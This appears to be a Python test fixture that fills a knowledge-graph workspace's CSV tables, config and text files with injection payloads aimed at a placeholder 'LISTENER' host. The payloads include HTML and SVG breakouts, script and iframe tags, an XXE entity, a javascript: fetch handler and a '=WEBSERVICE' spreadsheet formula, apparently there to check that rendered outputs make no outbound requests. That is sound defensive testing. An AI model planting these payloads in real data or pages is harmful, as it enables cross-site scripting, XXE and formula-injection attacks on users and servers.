"""Ways to reach a server by addresses and markup in the tables and texts of a workspace.

Each address has a path of its own. What is written in `PAINTED` goes into names, which pictures and pages show.
"""

from __future__ import annotations

import csv
import io

SERVER = "http://LISTENER/way/"
PAINTED = {
    "image": "<img src={}>",
    "image-of-svg": '"/><image href="{0}" xlink:href="{0}"/>',
    "script": "</script><script src={}></script>",
    "style": "</style><style>@import url({});</style>",
    "background": '" style="background:url({})"',
    "link": "<link rel=stylesheet href={}>",
    "frame": "]]><iframe src={}></iframe>",
    "use": '</text></svg><svg><use href="{}#a"/></svg>',
    "base": '<base href="{}">',
    "refresh": '<meta http-equiv="refresh" content="0;url={}">',
    "object": "<object data='{0}'></object><embed src='{0}'><video poster='{0}'>",
    "entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "{}">]>&x;',
    "code": "<a href=\"javascript:fetch('{0}')\" onmouseover=\"fetch('{0}')\">",
    "formula": '=WEBSERVICE("{}")',
    "image-of-markdown": "![x]({})",
    "address-alone": "{}",
}
_CLAIMS = (
    *("subject", "property", "value", "precision", "as_of", "claimant", "said", "via", "stance", "at", "quote"),
    *("review", "note"),
)


def _table(*rows: tuple[str, ...]) -> str:
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows(rows)
    return text.getvalue()


def _row(**cells: str) -> tuple[str, ...]:
    return tuple({"at": "char=0,4", "quote": "some", **cells}.get(name, "") for name in _CLAIMS)


def _claims() -> str:
    rows = [
        _row(subject="list/spring", property="count", value="41"),
        _row(subject="list/autumn", property="count", value="38", at="row=3", quote=SERVER + "quote"),
        _row(subject="list/spring", property="publisher", value="organization/dock", note=SERVER + "note"),
        _row(subject="person/image", property="says", value=SERVER + "words", claimant="person/image"),
        _row(subject="person/image", property="alias", value=SERVER + "spelling"),
        _row(subject="person/image", property="describedAs", value=f"<img src={SERVER}described>"),
        _row(subject="case/dock", property="charge", value=f"<img src={SERVER}charge>"),
        _row(subject="case/pier", property="plea", value=f"url({SERVER}plea)"),
    ]
    for name in PAINTED:
        rows.append(_row(subject="list/spring", property="names", value=f"person/{name}"))
        rows.append(_row(subject=f"person/{name}", property="memberOf", value="organization/dock"))
        rows.append(_row(subject="case/dock", property="defendant", value=f"person/{name}"))
    return _table(_CLAIMS, *rows)


TABLES: dict[str, str] = {
    "kg.toml": f'base = "{SERVER}iris/"\n',
    "data/people.csv": _table(
        ("id", "name", "aliases", "same_as"),
        *(
            (name, form.format(SERVER + name), SERVER + "alias", f"{SERVER}same-{name}")
            for name, form in PAINTED.items()
        ),
    ),
    "data/organizations.csv": _table(
        ("id", "name", "aliases", "classification", "same_as"),
        ("dock", f"Dock <img src={SERVER}organization>", SERVER + "also", "association", SERVER + "same-organization"),
    ),
    "data/places.csv": _table(("id", "name", "same_as"), ("veldania", f"url({SERVER}land)", SERVER + "same-place")),
    "data/cases.csv": _table(("id", "name"), ("dock", f"Case <script src={SERVER}case>"), ("pier", SERVER + "pier")),
    "data/lists.csv": _table(
        ("id", "name", "series", "edition"),
        ("autumn", f"Autumn <img src={SERVER}autumn>", "dock", "2030-10"),
        ("spring", f"Spring <image href={SERVER}spring>", "dock", "2031-02"),
    ),
    "data/sources.csv": _table(
        ("id", "title", "publisher", "published", "language", "url"),
        ("press", f"<img src={SERVER}title>", "organization/dock", "2031-06", "en", SERVER + "source"),
    ),
    "data/decisions.csv": _table(
        ("judgement", "first", "second", "reason", "by", "when"),
        ("different", "person/link", "person/script", SERVER + "reason", f"<img src={SERVER}judge>", "2031-07-01"),
    ),
    "data/claims/press.csv": _claims(),
    "texts/press.txt": f'some <script src="{SERVER}text"></script><img src="{SERVER}picture"> <?xml-stylesheet '
    f'href="{SERVER}sheet"?>',
    "texts/other.html": f'<link rel=stylesheet href="{SERVER}page"><img src="{SERVER}page">',
}
